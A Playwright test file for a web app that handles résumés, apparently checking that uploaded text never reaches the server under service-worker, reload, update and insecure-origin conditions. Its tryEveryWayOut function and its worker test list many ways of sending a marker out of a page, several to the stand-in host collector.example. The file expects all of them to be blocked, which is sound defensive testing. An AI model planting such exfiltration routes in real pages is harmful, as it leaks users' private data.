/** In no situation does a resume reach the server that the app came from. */
import type { Page } from '@playwright/test';
import {
  callApi,
  devTools,
  expect,
  leaked,
  PROBE,
  processFile,
  RESUME_TEXT,
  test,
  untilOffline,
  uploadOf,
} from './guarded.ts';
import { nextVersion } from './next-version.ts';

const UPLOAD = uploadOf('leonie.txt', RESUME_TEXT);

/** Sends an upload in the moment in which the app first paints; its status stands in `window.early`. */
async function uploadAtFirstPaint(page: Page): Promise<void> {
  await page.addInitScript((upload) => {
    const early = Promise.withResolvers<number>();
    Object.assign(window, { early: early.promise });
    const send = () =>
      fetch('/api/resumes', { method: 'POST', body: JSON.stringify(upload) }).then(
        (response) => early.resolve(response.status),
        () => early.resolve(-1),
      );
    new MutationObserver((_, observer) => {
      if (!document.querySelector('#root')?.hasChildNodes()) return;
      observer.disconnect();
      void send();
    }).observe(document, { childList: true, subtree: true });
  }, UPLOAD);
}

const early = (page: Page): Promise<number> => page.evaluate<number>('window.early');

const upload = async (page: Page): Promise<number> =>
  (await callApi(page, 'POST', '/api/resumes', UPLOAD)).status;

test('on the first visit, at first paint', async ({ page, home }) => {
  await uploadAtFirstPaint(page);
  await page.goto(home);
  expect(await early(page)).toBe(201);
});

test(
  'on the second visit and on a hard reload, at first paint',
  { tag: '@thorough' },
  async ({ page, home, context }) => {
    await uploadAtFirstPaint(page);
    await page.goto(home);
    await untilOffline(page);
    await page.goto(home);
    expect(await early(page)).toBe(201);
    const reloaded = page.waitForEvent('load');
    await (await devTools(context, page)).send('Page.reload', { ignoreCache: true });
    await reloaded;
    expect(await early(page)).toBe(201);
  },
);

test('while the part that answers cannot be loaded: the call fails, and works later', async ({
  page,
  home,
}) => {
  await page.route(/\/assets\/network-/, (route) => route.abort());
  await uploadAtFirstPaint(page);
  await page.goto(home);
  expect(await early(page)).toBe(-1);
  await page.unroute(/\/assets\/network-/);
  expect(await upload(page)).toBe(201);
});

test(
  'after the browser stopped every service worker',
  { tag: '@thorough' },
  async ({ page, home, context }) => {
    await page.goto(home);
    await untilOffline(page);
    const session = await devTools(context, page);
    await session.send('ServiceWorker.enable');
    await session.send('ServiceWorker.stopAllWorkers');
    expect(await upload(page)).toBe(201);
  },
);

test('after the service worker was unregistered', { tag: '@thorough' }, async ({ page, home }) => {
  await page.goto(home);
  await untilOffline(page);
  await page.evaluate(async () => {
    for (const registration of await navigator.serviceWorker.getRegistrations()) {
      await registration.unregister();
    }
  });
  expect(await upload(page)).toBe(201);
});

test(
  'after site data was cleared under the open page',
  { tag: '@thorough' },
  async ({ page, home, context }) => {
    await page.goto(home);
    await untilOffline(page);
    await page.reload();
    const session = await devTools(context, page);
    await session.send('Storage.clearDataForOrigin', {
      origin: new URL(home).origin,
      storageTypes: 'all',
    });
    expect(await upload(page)).toBe(201);
  },
);

test('on an origin that is not secure and has no service worker', async ({ page, server }) => {
  await uploadAtFirstPaint(page);
  await page.goto(`http://resume.test:${server.port}/`);
  expect(await page.evaluate(() => isSecureContext)).toBe(false);
  expect(await early(page)).toBe(201);
  expect((await processFile(page)).processingStatus).toBe('completed');
});

test(
  'from two tabs at once, and after one of them closed',
  { tag: '@thorough' },
  async ({ page, home, context }) => {
    await page.goto(home);
    await untilOffline(page);
    const other = await context.newPage();
    await other.goto(home);
    expect(await Promise.all([upload(page), upload(other)])).toEqual([201, 201]);
    await other.close();
    expect(await upload(page)).toBe(201);
  },
);

test(
  'while an update is coming in and waits',
  { tag: '@thorough' },
  async ({ page, home, server }, testInfo) => {
    await page.goto(home);
    await untilOffline(page);
    server.folder = nextVersion(testInfo.outputPath('next'));
    const updating = page.evaluate(async () => {
      const registration = await navigator.serviceWorker.ready;
      await registration.update();
    });
    expect(await upload(page)).toBe(201);
    await updating;
    await expect
      .poll(() => page.evaluate(async () => !!(await navigator.serviceWorker.ready).waiting))
      .toBe(true);
    expect((await processFile(page)).processingStatus).toBe('completed');
  },
);

test.describe('with a policy to break', () => {
  test.use({ provokes: true });

  test('by any other way out of the page', async ({ page, home, server }) => {
    await page.goto(home);
    const attempts = (prefetch: boolean) =>
      page.evaluate(tryEveryWayOut, { marker: PROBE, prefetch });
    // A policy does not stop a prefetch from the own host (CSP Level 3, section 6.7.2); the service worker does.
    await attempts(false);
    await page.waitForTimeout(500);
    expect(leaked(server), 'before the service worker controls the page').toEqual([]);
    await untilOffline(page);
    await page.reload();
    await attempts(true);
    await page.waitForTimeout(500);
    expect(leaked(server), 'under the service worker').toEqual([]);
  });
});

test('by any way out of the engine', async ({ page, home }) => {
  await page.goto(home);
  await processFile(page);
  const [engine] = page.workers();
  const doors = await engine!.evaluate(async (marker) => {
    const tries: Record<string, () => unknown> = {
      fetch: () => fetch(`/x?${marker}`, { method: 'POST', body: marker }),
      XMLHttpRequest: () => new XMLHttpRequest(),
      WebSocket: () => new WebSocket(`ws://localhost/${marker}`),
      EventSource: () => new EventSource(`/x?${marker}`),
      importScripts: () => Reflect.get(globalThis, 'importScripts')(`/x?${marker}`),
    };
    const results: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        await attempt();
        results[name] = 'open';
      } catch (error) {
        results[name] = String(error).includes('locked') ? 'locked' : String(error);
      }
    }
    return results;
  }, PROBE);
  expect(new Set(Object.values(doors)), JSON.stringify(doors)).toEqual(new Set(['locked']));
});

/** Runs in the page; no way may throw the others off. */
async function tryEveryWayOut({ marker, prefetch }: { marker: string; prefetch: boolean }) {
  const ways: (() => unknown)[] = [
    () => fetch('/collect', { method: 'POST', body: marker }),
    () => fetch(`https://collector.example/${marker}`),
    () => {
      const request = new XMLHttpRequest();
      request.open('POST', '/collect');
      request.send(marker);
    },
    () => navigator.sendBeacon('/collect', marker),
    () => new WebSocket(`ws://${location.host}/${marker}`),
    () => new EventSource(`/collect?${marker}`),
    () => {
      const image = new Image();
      image.src = `/pixel?${marker}`;
    },
    () => {
      if (!prefetch) return;
      const link = document.createElement('link');
      link.rel = 'prefetch';
      link.href = `/assets/${marker}.js`;
      document.head.append(link);
    },
    () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      return frame.contentWindow!.fetch('/collect', { method: 'POST', body: marker });
    },
    () => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `/collect?${marker}`;
      form.target = 'elsewhere';
      document.body.append(form);
      form.submit();
    },
    () => import(/* @vite-ignore */ `https://collector.example/${marker}.js`),
  ];
  for (const way of ways) {
    try {
      await Promise.race([way(), new Promise((resolve) => setTimeout(resolve, 300))]);
    } catch {
      // Refused, as it should be.
    }
  }
}
